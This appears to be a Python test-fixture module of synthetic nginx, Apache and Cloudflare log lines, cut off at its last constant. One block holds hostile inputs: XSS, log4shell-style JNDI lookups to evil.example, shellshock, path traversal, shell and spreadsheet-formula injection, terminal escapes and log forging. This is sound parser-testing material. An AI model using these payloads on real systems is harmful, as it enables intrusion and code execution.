"""Small logs of odd cases, line by line: each shows what its server really writes for an unusual request.

All of them lie between 00:00 and 06:00 of the day, few enough to leave its story alone.
"""
# ruff: noqa: E501 - a log line is as long as it is

from __future__ import annotations


def _log(*lines: str, end: str = "\n") -> bytes:
    return "".join(line + end for line in lines).encode()


NGINX_COMBINED = _log(
    '198.51.100.14 - - [10/Mar/2026:00:05:11 +0000] "GET / HTTP/1.1" 200 18302 "https://search.example.net/" "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"',
    '198.51.100.14 - - [10/Mar/2026:00:05:11 +0000] "GET /static/site.css HTTP/1.1" 304 0 "https://www.example.com/" "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"',
    '2001:db8:21::4 - - [10/Mar/2026:00:07:40 +0000] "GET /c/lamps?page=2&sort=price HTTP/2.0" 200 22910 "-" "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15"',
    '203.0.113.77 - ada [10/Mar/2026:00:09:02 +0000] "POST /api/v2/orders HTTP/1.1" 201 96 "-" "okhttp/5.1.0"',
    '203.0.113.77 - - [10/Mar/2026:00:09:03 +0000] "POST /api/v2/orders HTTP/1.1" 401 64 "-" "okhttp/5.1.0"',
    '192.0.2.250 - - [10/Mar/2026:00:10:17 +0000] "HEAD /health HTTP/1.1" 200 0 "-" "example-monitor/1.4"',
    '198.51.100.15 - - [10/Mar/2026:00:12:44 +0000] "GET /search?q=caf\\xC3\\xA9 HTTP/1.1" 200 9120 "https://www.example.com/" "Mozilla/5.0"',
    '198.51.100.15 - - [10/Mar/2026:00:13:01 +0000] "GET /search?q=\\x22garden hose\\x22 HTTP/1.1" 400 157 "-" "curl/8.14.1"',
    '198.51.100.16 - - [10/Mar/2026:00:14:30 +0000] "GET /report.pdf HTTP/1.1" 206 1048576 "-" "Mozilla/5.0"',
    '198.51.100.17 - - [10/Mar/2026:00:15:55 +0000] "GET /checkout HTTP/2.0" 499 0 "https://www.example.com/cart" "Mozilla/5.0"',
    '198.51.100.18 - - [10/Mar/2026:00:16:20 +0000] "GET /c/toys HTTP/3.0" 302 138 "-" "Mozilla/5.0"',
    '203.0.113.219 - - [10/Mar/2026:00:17:08 +0000] "GET /wp-login.php HTTP/1.1" 404 153 "-" "Mozilla/5.0 zgrab/0.x"',
    '198.51.100.19 - - [10/Mar/2026:01:18:30 +0100] "OPTIONS /api/v2/cart HTTP/1.1" 204 0 "https://www.example.com/" "Mozilla/5.0"',
    '198.51.100.20 - - [10/Mar/2026:00:20:01 +0000] "GET /item/1259 HTTP/1.1" 500 842 "" ""',
)

NGINX_REQUEST_ODDITIES = _log(
    r'203.0.113.215 - - [10/Mar/2026:00:30:00 +0000] "\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\x1A\x5C\xE7\x22 \x90]" 400 157 "-" "-"',
    '203.0.113.215 - - [10/Mar/2026:00:30:04 +0000] "" 400 0 "-" "-"',
    '203.0.113.216 - - [10/Mar/2026:00:31:10 +0000] "-" 400 0 "-" "-"',
    '192.0.2.41 - - [10/Mar/2026:00:32:00 +0000] "GET /plain" 200 1270 "-" "-"',
    '192.0.2.41 - - [10/Mar/2026:00:32:05 +0000] "GET /plain" 009 0 "-" "-"',
    '203.0.113.217 - - [10/Mar/2026:00:33:20 +0000] "GET /summer sale/list of things HTTP/1.1" 400 157 "-" "-"',
    '203.0.113.217 - - [10/Mar/2026:00:33:29 +0000] "GET /old HTTP/1.0 style HTTP/1.1" 400 157 "-" "-"',
    '203.0.113.218 - - [10/Mar/2026:00:34:00 +0000] "GET http://www.example.org/proxy/test.txt?x=1 HTTP/1.1" 404 153 "-" "Go-http-client/1.1"',
    '203.0.113.218 - - [10/Mar/2026:00:34:02 +0000] "CONNECT mail.example.net:25 HTTP/1.1" 400 157 "-" "-"',
    '203.0.113.218 - - [10/Mar/2026:00:34:05 +0000] "CONNECT mail.example.net:443 HTTP/1.1" 405 157 "-" "-"',
    '192.0.2.42 - grace hopper [navy] [10/Mar/2026:00:35:00 +0000] "GET /private/ HTTP/1.1" 200 4410 "-" "curl/8.14.1"',
    r'192.0.2.43 - o\x22neill [10/Mar/2026:00:35:30 +0000] "GET /private/ HTTP/1.1" 401 179 "-" "curl/8.14.1"',
    '198.51.100.61 - - [10/Mar/2026:00:36:00 +0000] "GET /report HTTP/1.1" 000 0 "-" "Mozilla/5.0"',
    '198.51.100.61 - - [10/Mar/2026:00:36:09 +0000] "GET /report HTTP/1.1" 499 0 "-" "Mozilla/5.0"',
    '203.0.113.219 - - [10/Mar/2026:00:37:00 +0000] "GET /cgi-bin/luci HTTP/1.1" 444 0 "-" "-"',
    r'198.51.100.62 - - [10/Mar/2026:00:38:00 +0000] "GET /s?q=\x22quoted\x22&path=C:\x5Ctemp HTTP/1.1" 200 801 "said \x22hello\x22" "tab\x09inside"',
    r'198.51.100.63 - - [10/Mar/2026:00:38:30 +0000] "GET /th\xC3\xA9/\xEC\xB0\xA8 HTTP/1.1" 200 801 "-" "\xED\x95\x9C\xEA\xB5\xAD\xEC\x96\xB4/1.0"',
    '203.0.113.220 - - [10/Mar/2026:00:39:00 +0000] "get / HTTP/1.1" 400 157 "-" "-"',
    '203.0.113.220 - - [10/Mar/2026:00:39:02 +0000] "GET / HTTP/3.9" 505 177 "-" "-"',
    '203.0.113.220 - - [10/Mar/2026:00:39:04 +0000] "GET /par" 400 0 "-" "-"',
    '203.0.113.220 - - [10/Mar/2026:00:40:08 +0000] "GET /tmo" 408 0 "-" "-"',
    '203.0.113.221 - - [10/Mar/2026:00:41:00 +0000] "PRI * HTTP/2.0" 400 157 "-" "-"',
    '192.0.2.44 - - [10/Mar/2026:00:41:30 +0000] "PROPFIND /dav/ HTTP/1.1" 405 157 "-" "davfs2/1.7.0"',
    '192.0.2.44 - - [10/Mar/2026:00:41:31 +0000] "VERSION-CONTROL /dav/file HTTP/1.1" 405 157 "-" "davfs2/1.7.0"',
    'unix: - - [10/Mar/2026:00:42:00 +0000] "GET /status HTTP/1.1" 200 97 "-" "curl/8.14.1"',
    '2001:db8:5::1f - - [10/Mar/2026:00:43:00 +0000] "GET /?next=//www.example.org/a?b=c?d HTTP/2.0" 200 18302 "" ""',
    '198.51.100.64 - - [10/Mar/2026:00:44:00 +0000] "GET /shop;jsessionid=9A1?x=[1] HTTP/1.1" 200 801 "-" "Mozilla/5.0 [de] (X11)"',
    '198.51.100.65 - - [10/Mar/2026:00:45:00 +0000] "GET / HTTP/1.1" 494 0 "-" "-"',
)

NGINX_CRLF = _log(
    '192.0.2.51 - - [10/Mar/2026:01:00:01 +0000] "GET / HTTP/1.1" 200 612 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
    '192.0.2.51 - - [10/Mar/2026:01:00:02 +0000] "GET /favicon.ico HTTP/1.1" 404 153 "http://www.example.com/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"',
    '192.0.2.52 - - [10/Mar/2026:01:00:09 +0000] "POST /form HTTP/1.1" 302 138 "http://www.example.com/form" ""',
    "",
    '192.0.2.52 - - [10/Mar/2026:01:00:10 +0000] "GET /thanks HTTP/1.1" 200 2048 "-" "-"',
    '2001:db8:7::9 - - [10/Mar/2026:01:01:00 +0000] "GET /a.txt HTTP/1.1" 499 0 "-" "curl/8.14.1"',
    end="\r\n",
)

NGINX_BROKEN = b"\n".join(
    (
        b'192.0.2.61 - - [10/Mar/2026:01:30:00 +0000] "GET /good/1 HTTP/1.1" 200 612 "-" "curl/8.14.1"',
        b'2026/03/10 01:30:01 [error] 811#811: *52 open() "/srv/www/x" failed (2: No such file or directory)',
        b"",
        b'192.0.2.61 - - [10/Mar/2026:01:30:02 +0000] "GET /good/2 HTTP/1.1" 200 612 "-" "curl/8.14.1"',
        b"   ",
        b'192.0.2.62 - - [31/Feb/2026:01:30:03 +0000] "GET /no-such-day HTTP/1.1" 200 612 "-" "curl/8.14.1"',
        b'192.0.2.62 - - [10/Mar/2026:25:30:03 +0000] "GET /no-such-hour HTTP/1.1" 200 612 "-" "curl/8.14.1"',
        b'192.0.2.62 - - [10/Mar/2026:01:30:04 +0000] "GET /no-status HTTP/1.1" twohundred 612 "-" "curl/8.14.1"',
        b'192.0.2.62 - - [10/Mar/2026:01:30:05 +0000] "GET /half',
        b' of a line HTTP/1.1" 200 612 "-" "curl/8.14.1"',
        b'192.0.2.63 - - [10/Mar/2026:01:30:06 +0000] "GET /good/3 HTTP/1.1" 200 612 "-" "latin \xe9\xe8 bytes"',
        b'192.0.2.63 - - [10/Mar/2026:01:30:07 +0000] "GET /nul\x00byte HTTP/1.1" 200 612 "-" "curl/8.14.1"',
        b"\x00\x00\x00\x00\x00\x00\x00\x00",
        b'192.0.2.64 - - [10/Mar/2026:01:30:08 +0000] "GET /good/4 HTTP/1.1" 200 612 "-" "curl/8.14.1"192.0.2.64 - - [10/Mar/2026:01:30:08 +0000] "GET /glued HTTP/1.1" 200 612 "-" "curl/8.14.1"',
        b"lorem ipsum dolor sit amet",
        b'{"not": "an access log"}',
        b'192.0.2.65 - - [10/Mar/2026:01:30:09 +0000] "GET /good/5 HTTP/1.1" 404 153 "-" "curl/8.14.1"',
        b'192.0.2.65 - - [10/Mar/2026:01:30:10 +0000] "GET /big HTTP/1.1" 200 99999999999999999999999 "-" "curl/8.14.1"',
        b'192.0.2.66 - - [10/Mar/2026:01:30:11 +0000] "GET /good/6 HTTP/1.1" 200 612 "-" "curl/8.14.1"',
        b'192.0.2.66 - - [10/Mar/2026:01:30:12 +0000] "GET /cut HTTP/1.1" 200 61',
    )
)

NGINX_HOSTILE = _log(
    r'203.0.113.230 - - [10/Mar/2026:02:00:00 +0000] "GET /<script>alert(1)</script> HTTP/1.1" 404 153 "-" "<script src=//evil.example/x.js></script>"',
    r'203.0.113.230 - - [10/Mar/2026:02:00:01 +0000] "GET /?q=</script><img/src=x/onerror=alert(2)> HTTP/1.1" 200 612 "javascript:alert(3)" "<b onmouseover=alert(4)>hi</b>"',
    r'203.0.113.230 - - [10/Mar/2026:02:00:02 +0000] "GET /\x22onload=\x22alert(5) HTTP/1.1" 404 153 "data:text/html,<svg/onload=alert(6)>" "\x22><svg/onload=alert(7)>"',
    "203.0.113.230 - - [10/Mar/2026:02:00:03 +0000] \"GET /'onclick='alert(8) HTTP/1.1\" 404 153 \"-\" \"' OR '1'='1' --\"",
    '203.0.113.231 - [red]markup[/red] [10/Mar/2026:02:00:04 +0000] "GET /[bold]loud[/bold] HTTP/1.1" 404 153 "[link=http://evil.example]here[/link]" "[/] [blink]"',
    r'203.0.113.231 - - [10/Mar/2026:02:00:05 +0000] "GET /\xF0\x9F\x94\xA5 HTTP/1.1" 404 153 "-" "\xF0\x9F\x92\xA9 \xE2\x80\xAEtxt.exe \x1B[31mred\x1B[0m \x1B]0;title\x07"',
    '203.0.113.231 - - [10/Mar/2026:02:00:06 +0000] "GET /\U0001f525 HTTP/1.1" 404 153 "-" "raw, as old servers wrote it: \U0001f4a9 \u202egnp.exe\u202c \u2066x\u2069 \u200bzero\u200bwidth"',
    '203.0.113.231 - - [10/Mar/2026:02:00:07 +0000] "GET /raw HTTP/1.1" 404 153 "-" "\x1b[2J\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07link\x1b]8;;\x07"',
    r'203.0.113.232 - =1+1 [10/Mar/2026:02:00:08 +0000] "GET /=cmd|calc!A0 HTTP/1.1" 404 153 "+1+1" "=HYPERLINK(\x22http://evil.example/\x22,\x22win\x22)"',
    '203.0.113.232 - @SUM(1) [10/Mar/2026:02:00:09 +0000] "GET /@SUM(1) HTTP/1.1" 404 153 "-1+1" "@SUM(A1:A9)"',
    '203.0.113.232 - - [10/Mar/2026:02:00:10 +0000] "GET /{{7*7}} HTTP/1.1" 404 153 "{% for x in y %}{{ x }}{% endfor %}" "${7*7} #{7*7} <%= 7*7 %>"',
    '203.0.113.232 - - [10/Mar/2026:02:00:11 +0000] "GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1" 200 612 "-" "${jndi:dns://evil.example/b}"',
    '203.0.113.233 - - [10/Mar/2026:02:00:12 +0000] "GET /../../../../etc/passwd HTTP/1.1" 400 157 "-" "() { :;}; /bin/sleep 9"',
    '203.0.113.233 - - [10/Mar/2026:02:00:13 +0000] "GET /%3Cscript%3Ealert(9)%3C/script%3E?a=%22%3E%00%0d%0aX:1 HTTP/1.1" 404 153 "-" "%s%n%x {0} {missing}"',
    '203.0.113.233 - - [10/Mar/2026:02:00:14 +0000] "GET /`id`;$(reboot)|x&y HTTP/1.1" 404 153 "-" "$(touch here) `touch there`"',
    '203.0.113.233 - - [10/Mar/2026:02:00:15 +0000] "GET /|a|b| HTTP/1.1" 404 153 "[click](http://evil.example) ![i](http://evil.example/i.png)" "| --- | **bold** <!-- x --> ```"',
    '203.0.113.233 - - [10/Mar/2026:02:00:16 +0000] "GET /]]>&lt;&amp;&#x27; HTTP/1.1" 404 153 "<!--" "]]> --> */ //"',
    '203.0.113.234 - - [10/Mar/2026:02:00:17 +0000] "GET /login?password=open-sesame&token=c2VjcmV0&email=eve@example.org HTTP/1.1" 200 612 "https://eve:open-sesame@www.example.com/?session=1f2e3d" "-"',
    f'203.0.113.234 - - [10/Mar/2026:02:00:18 +0000] "GET /{"long" * 300} HTTP/1.1" 414 177 "-" "{"x" * 400}"',
    '203.0.113.234 - - [10/Mar/2026:02:00:19 +0000] "GET /__proto__?constructor=1 HTTP/1.1" 404 153 "null" "undefined NaN -Infinity true"',
    '203.0.113.234 - - [10/Mar/2026:02:00:20 +0000] "GET /cafe\u0301/\u0430dmin HTTP/1.1" 404 153 "-" "e\u0301\u0301\u0301\u0301\u0301"',
    r'203.0.113.234 - - [10/Mar/2026:02:00:21 +0000] "GET /\x0D\x0A203.0.113.9 - - [10/Mar/2026:02:00:22 +0000] \x22GET /forged HTTP/1.1\x22 200 1 HTTP/1.1" 400 157 "-" "-"',
)

APACHE_COMMON = _log(
    'pc12.example.net - - [10/Mar/2026:02:10:00 +0000] "HEAD /list.csv HTTP/1.1" 304 -',
    '192.0.2.71 - - [10/Mar/2026:02:10:03 +0000] "GET / HTTP/1.1" 200 10701',
    '192.0.2.71 - - [10/Mar/2026:02:10:04 +0000] "GET /icons/debian.png HTTP/1.1" 200 5866',
    '192.0.2.72 - bella [10/Mar/2026:02:10:09 +0000] "GET /private/ HTTP/1.1" 200 1381',
    '192.0.2.72 ident7 - [10/Mar/2026:02:10:12 +0000] "GET /~bella/ HTTP/1.0" 301 338',
    '2001:db8:9::a1 - - [10/Mar/2026:02:11:00 +0000] "GET /missing HTTP/1.1" 404 196',
    '192.0.2.73 - - [10/Mar/2026:02:12:00 +0000] "GET /export.php HTTP/1.1" - -',
    '192.0.2.73 - - [10/Mar/2026:02:13:00 +0000] "POST /upload HTTP/1.1" 413 -',
    '198.51.100.71 - - [10/Mar/2026:04:14:00 +0200] "GET /elsewhere HTTP/1.1" 200 77',
    '198.51.100.72 - - [10/Mar/2026:02:13:40 +0000] "GET /later-start HTTP/1.1" 503 299',
)

APACHE_COMBINED = _log(
    '198.51.100.81 - - [10/Mar/2026:02:30:00 +0000] "GET / HTTP/1.1" 200 10956 "https://search.example.net/" "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"',
    '198.51.100.81 - - [10/Mar/2026:02:30:00 +0000] "GET /icons/logo.png HTTP/1.1" 200 3623 "http://www.example.com/" "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"',
    '198.51.100.82 - - [10/Mar/2026:02:30:44 +0000] "GET /export?rows=all HTTP/1.1" 200 - "-" "Mozilla/5.0"',
    '198.51.100.81 - - [10/Mar/2026:02:30:41 +0000] "GET /slow-and-written-later HTTP/1.1" 200 812 "-" "Mozilla/5.0"',
    '192.0.2.81 - bella [10/Mar/2026:02:31:00 +0000] "GET /private/ HTTP/1.1" 200 1381 "-" "curl/8.14.1"',
    '2001:db8:9::b2 - - [10/Mar/2026:02:31:10 +0000] "GET /s?q=\\"garden hose\\" HTTP/1.1" 400 484 "-" "curl/8.14.1"',
    '2001:db8:9::b2 - - [10/Mar/2026:02:31:12 +0000] "GET /th%C3%A9 HTTP/2.0" 200 512 "" "th\\xc3\\xa9/1.0"',
    '203.0.113.222 - - [10/Mar/2026:02:32:00 +0000] "GET /server-status HTTP/1.1" 403 437 "-" "-"',
    '203.0.113.222 - - [10/Mar/2026:02:32:01 +0000] "GET /.env HTTP/1.1" 404 434 "-" "-"',
    '198.51.100.83 - - [10/Mar/2026:02:33:00 +0000] "GET /broken.php HTTP/1.1" 500 185 "http://www.example.com/" "Mozilla/5.0"',
    '198.51.100.83 - - [10/Mar/2026:02:34:00 +0000] "DELETE /cart/7 HTTP/1.1" 405 522 "-" "Mozilla/5.0"',
    '127.0.0.1 - - [10/Mar/2026:02:35:00 +0000] "OPTIONS * HTTP/1.0" 200 126 "-" "Apache/2.4.66 (Debian) (internal dummy connection)"',
)

APACHE_VHOST_COMBINED = _log(
    'shop.example.com:443 2001:db8:9::c1 - - [10/Mar/2026:03:00:00 +0000] "GET /wishlist HTTP/2.0" 200 4410 "https://shop.example.com/" "Mozilla/5.0"',
    'shop.example.com:443 2001:db8:9::c1 - pia [10/Mar/2026:03:00:07 +0000] "POST /wishlist HTTP/2.0" 302 331 "https://shop.example.com/wishlist" "Mozilla/5.0"',
    'www.example.com:80 198.51.100.91 - - [10/Mar/2026:03:01:00 +0000] "GET / HTTP/1.1" 301 553 "-" "Mozilla/5.0"',
    'www.example.com:443 198.51.100.91 - - [10/Mar/2026:03:01:00 +0000] "GET / HTTP/1.1" 200 11204 "-" "Mozilla/5.0"',
    'intranet.example.net:8080 192.0.2.91 - anna maria [10/Mar/2026:03:02:00 +0000] "GET /wiki/Start HTTP/1.1" 200 8112 "-" "Mozilla/5.0"',
    'intranet.example.net:8080 192.0.2.91 - anna \\"am\\" maria [10/Mar/2026:03:02:30 +0000] "GET /wiki/Edit?page=[Start] HTTP/1.1" 200 8112 "-" "Mozilla/5.0"',
    'www.example.com:80 host9.example.org - - [10/Mar/2026:03:03:00 +0000] "GET /robots.txt HTTP/1.1" 404 436 "-" "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example.org/about)"',
    'www.example.com:443 203.0.113.223 - - [10/Mar/2026:03:04:00 +0000] "GET / HTTP/1.0" 400 652 "-" "-"',
    'www.example.com:80 203.0.113.223 - - [10/Mar/2026:03:04:10 +0000] "-" 408 0 "-" "-"',
    'www.example.com:80 ::1 - - [10/Mar/2026:03:05:00 +0000] "OPTIONS * HTTP/1.0" 200 126 "-" "Apache/2.4.66 (Debian) (internal dummy connection)"',
)

APACHE_REQUEST_ODDITIES = _log(
    '203.0.113.224 - - [10/Mar/2026:03:30:00 +0000] "-" 408 - "-" "-"',
    r'203.0.113.224 - - [10/Mar/2026:03:30:05 +0000] "\x16\x03\x01\x02" 400 226 "-" "-"',
    r'203.0.113.224 - - [10/Mar/2026:03:30:06 +0000] "\x16\x03\x01" 400 226 "-" "-"',
    r'198.51.100.95 - - [10/Mar/2026:03:31:00 +0000] "GET /find?t=\"C:\\new\" HTTP/1.1" 200 905 "" "one\ttwo \xe2\x82\xac \x1b[1m"',
    r'198.51.100.95 - - [10/Mar/2026:03:31:04 +0000] "GET /find?t=\\x41\v\b HTTP/1.1" 200 905 "say \"hi\"" "a \\ b"',
    '192.0.2.95 - "" [10/Mar/2026:03:32:00 +0000] "GET /staff/ HTTP/1.1" 401 459 "-" "-"',
    r'192.0.2.95 - ann \"b\" lee [10/Mar/2026:03:32:10 +0000] "GET /staff/ HTTP/1.1" 200 2204 "-" "curl/8.14.1"',
    '192.0.2.95 - lee [night shift] [10/Mar/2026:03:32:20 +0000] "GET /staff/ HTTP/1.1" 200 2204 "-" "curl/8.14.1"',
    '192.0.2.96 - - [10/Mar/2026:03:33:00 +0000] "GET /report.php HTTP/1.1" - - "-" "-"',
    '192.0.2.96 - - [10/Mar/2026:03:33:10 +0000] "HEAD /list.csv HTTP/1.1" 304 - "-" "-"',
    '::1 - - [10/Mar/2026:03:34:00 +0000] "OPTIONS * HTTP/1.0" 200 - "-" "Apache/2.4.66 (Debian) (internal dummy connection)"',
    '127.0.0.1 - - [10/Mar/2026:03:34:01 +0000] "GET / HTTP/1.0" 200 44 "-" "Apache/2.2.3 (Debian) (internal dummy connection)"',
    '203.0.113.225 - - [10/Mar/2026:03:35:00 +0000] "GET /price list" 400 226 "-" "-"',
    '203.0.113.225 - - [10/Mar/2026:03:35:02 +0000] "GET" 400 226 "-" "-"',
    '203.0.113.225 - - [10/Mar/2026:03:35:04 +0000] "GET / FOO" 400 226 "-" "-"',
    '203.0.113.225 - - [10/Mar/2026:03:35:06 +0000] "GET / HTTP/9.9" 200 10701 "-" "-"',
    '203.0.113.225 - - [10/Mar/2026:03:35:08 +0000] "get /index.html HTTP/1.1" 501 227 "-" "-"',
    '203.0.113.225 - - [10/Mar/2026:03:35:10 +0000] "GET /motd" 200 31 "-" "-"',
    '203.0.113.226 - - [10/Mar/2026:03:36:00 +0000] "GET http://kim:XXXXXXXX@www.example.org/feed HTTP/1.1" 404 196 "-" "-"',
    '203.0.113.226 - - [10/Mar/2026:03:36:02 +0000] "CONNECT mail.example.net:443 HTTP/1.1" 405 224 "-" "-"',
    '203.0.113.226 - - [10/Mar/2026:03:36:04 +0000] "GET /#top HTTP/1.1" 400 226 "-" "-"',
    '203.0.113.226 - - [10/Mar/2026:03:36:25 +0000] "GET /headers-missing HTTP/1.1" 408 221 "-" "-"',
    f'203.0.113.226 - - [10/Mar/2026:03:37:00 +0000] "GET /{"long" * 60}" 414 248 "-" "-"',
)

CLOUDFLARE_UNIXNANO = _log(
    '{"ClientIP":"192.0.2.111","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/c/lamps?page=2","ClientRequestPath":"/c/lamps","ClientRequestProtocol":"HTTP/2","ClientRequestSource":"eyeball","CacheCacheStatus":"dynamic","EdgeStartTimestamp":1773111600123000000,"EdgeEndTimestamp":1773111600468000000,"EdgeResponseStatus":200,"EdgeResponseBytes":23117,"OriginResponseStatus":200,"OriginResponseDurationMs":312,"RayID":"9d93f1a2b3c40001","ParentRayID":"00"}',
    '{"ClientIP":"2001:db8:31::7","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/static/logo.svg","ClientRequestPath":"/static/logo.svg","ClientRequestProtocol":"HTTP/3","ClientRequestSource":"eyeball","CacheCacheStatus":"hit","EdgeStartTimestamp":1773111601007000000,"EdgeEndTimestamp":1773111601011000000,"EdgeResponseStatus":200,"EdgeResponseBytes":3180,"OriginResponseStatus":0,"OriginResponseDurationMs":0,"RayID":"9d93f1a2b3c40002","ParentRayID":"00"}',
    '{"ClientIP":"192.0.2.112","ClientRequestHost":"shop.example.com","ClientRequestMethod":"POST","ClientRequestURI":"/checkout","ClientRequestPath":"/checkout","ClientRequestProtocol":"HTTP/2","ClientRequestSource":"eyeball","CacheCacheStatus":"dynamic","EdgeStartTimestamp":1773111605000000001,"EdgeEndTimestamp":1773111624300000002,"EdgeResponseStatus":522,"EdgeResponseBytes":7095,"OriginResponseStatus":0,"OriginResponseDurationMs":0,"RayID":"9d93f1a2b3c40003","ParentRayID":"00"}',
    '{"ClientIP":"203.0.113.240","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/xmlrpc.php","ClientRequestPath":"/xmlrpc.php","ClientRequestProtocol":"HTTP/1.1","ClientRequestSource":"eyeball","CacheCacheStatus":"unknown","EdgeStartTimestamp":1773111630500000000,"EdgeEndTimestamp":1773111630509000000,"EdgeResponseStatus":403,"EdgeResponseBytes":4518,"OriginResponseStatus":0,"OriginResponseDurationMs":0,"SecurityAction":"block","SecurityRuleID":"c41f77e0","SecurityActions":["log","block"],"SecuritySources":["bic","firewallCustom"],"SecurityRuleIDs":["90d2ab15","c41f77e0"],"RayID":"9d93f1a2b3c40004","ParentRayID":"00"}',
    '{"ClientIP":"192.0.2.113","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/search?q=\\"lamp\\"&note=a\\\\b\\u00e9\\u001b[0m","ClientRequestPath":"/search","ClientRequestProtocol":"HTTP/2","ClientRequestSource":"eyeball","CacheCacheStatus":"dynamic","EdgeStartTimestamp":1773111640000000000,"EdgeEndTimestamp":1773111640250000000,"EdgeResponseStatus":499,"EdgeResponseBytes":0,"OriginResponseStatus":0,"OriginResponseDurationMs":0,"RayID":"9d93f1a2b3c40005","ParentRayID":"00"}',
    '{"ClientIP":"192.0.2.114","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/stale","ClientRequestPath":"/stale","ClientRequestProtocol":"HTTP/2","ClientRequestSource":"eyeball","CacheCacheStatus":"stale","EdgeStartTimestamp":1773111650000000000,"EdgeEndTimestamp":1773111650090000000,"EdgeResponseStatus":200,"EdgeResponseBytes":9001,"OriginResponseStatus":503,"OriginResponseDurationMs":61,"RayID":"9d93f1a2b3c40006","ParentRayID":"00"}',
)

CLOUDFLARE_UNIX = _log(
    '{"EdgeStartTimestamp":1773113400,"EdgeEndTimestamp":1773113400,"ClientIP":"192.0.2.121","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/","EdgeResponseStatus":200,"OriginResponseStatus":200,"OriginResponseDurationMs":41,"CacheCacheStatus":"miss","RayID":"9d941d00aa010001"}',
    '{"EdgeStartTimestamp":1773113402,"EdgeEndTimestamp":1773113421,"ClientIP":"192.0.2.122","ClientRequestHost":"shop.example.com","ClientRequestMethod":"POST","ClientRequestURI":"/login","EdgeResponseStatus":522,"OriginResponseStatus":0,"OriginResponseDurationMs":0,"CacheCacheStatus":"dynamic","RayID":"9d941d00aa010002"}',
    '{"EdgeStartTimestamp":1773113401,"EdgeEndTimestamp":1773113403,"ClientIP":"2001:db8:32::1","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/c/toys","EdgeResponseStatus":524,"OriginResponseStatus":0,"OriginResponseDurationMs":0,"CacheCacheStatus":"dynamic","RayID":"9d941d00aa010003"}',
    '{"EdgeStartTimestamp":1773113430,"EdgeEndTimestamp":1773113430,"ClientIP":"192.0.2.123","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/item/1012","EdgeResponseStatus":530,"OriginResponseStatus":0,"OriginResponseDurationMs":0,"CacheCacheStatus":"unknown","RayID":"9d941d00aa010004"}',
    '{"EdgeStartTimestamp":1773113431,"EdgeEndTimestamp":1773113431,"ClientIP":"192.0.2.124","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/api/v2/recommend?item=1074","EdgeResponseStatus":429,"OriginResponseStatus":0,"OriginResponseDurationMs":0,"SecurityAction":"block","SecuritySources":["rateLimit"],"CacheCacheStatus":"unknown","RayID":"9d941d00aa010005"}',
)

CLOUDFLARE_RFC3339 = _log(
    '{"EdgeStartTimestamp":"2026-03-10T04:00:01Z","EdgeEndTimestamp":"2026-03-10T04:00:01Z","ClientIP":"2001:db8:33::5","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/static/logo.svg","ClientRequestReferer":"","ClientRequestUserAgent":"","CacheCacheStatus":"hit","EdgeResponseStatus":200,"OriginResponseStatus":0,"OriginIP":"","RayID":"9d944a11bb020001"}',
    '{"EdgeStartTimestamp":"2026-03-10T04:00:03Z","EdgeEndTimestamp":"2026-03-10T04:00:05Z","ClientIP":"192.0.2.131","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/slow","ClientRequestReferer":"https://shop.example.com/","ClientRequestUserAgent":"Mozilla/5.0","CacheCacheStatus":"dynamic","EdgeResponseStatus":200,"OriginResponseStatus":200,"OriginIP":"192.0.2.80","RayID":"9d944a11bb020002"}',
    '{"EdgeStartTimestamp":"2026-03-10T04:00:02.25Z","EdgeEndTimestamp":"2026-03-10T04:00:02.875Z","ClientIP":"192.0.2.132","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/fractions","ClientRequestReferer":"","ClientRequestUserAgent":"Mozilla/5.0","CacheCacheStatus":"dynamic","EdgeResponseStatus":200,"OriginResponseStatus":200,"OriginIP":"192.0.2.80","RayID":"9d944a11bb020003"}',
    '{"EdgeStartTimestamp":"2026-03-10T04:00:09Z","EdgeEndTimestamp":"2026-03-10T04:00:09Z","ClientIP":"192.0.2.133","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/app","ClientRequestReferer":"","ClientRequestUserAgent":"Mozilla/5.0","CacheCacheStatus":"dynamic","EdgeResponseStatus":502,"OriginResponseStatus":502,"OriginIP":"192.0.2.80","RayID":"9d944a11bb020004"}',
    '{"EdgeStartTimestamp":"2026-03-10T04:00:12Z","EdgeEndTimestamp":"2026-03-10T04:00:12Z","ClientIP":"192.0.2.134","ClientRequestHost":"shop.example.com","ClientRequestMethod":"GET","ClientRequestURI":"/search?q=x{env:HOME}","ClientRequestReferer":"","ClientRequestUserAgent":"Mozilla/5.0","EdgeResponseStatus":200,"EdgeResponseBytes":6031,"sampleInterval":10,"RayID":"9d944a11bb020005"}',
)

CLOUDFLARE_NUMERIC_TEXT = _log(
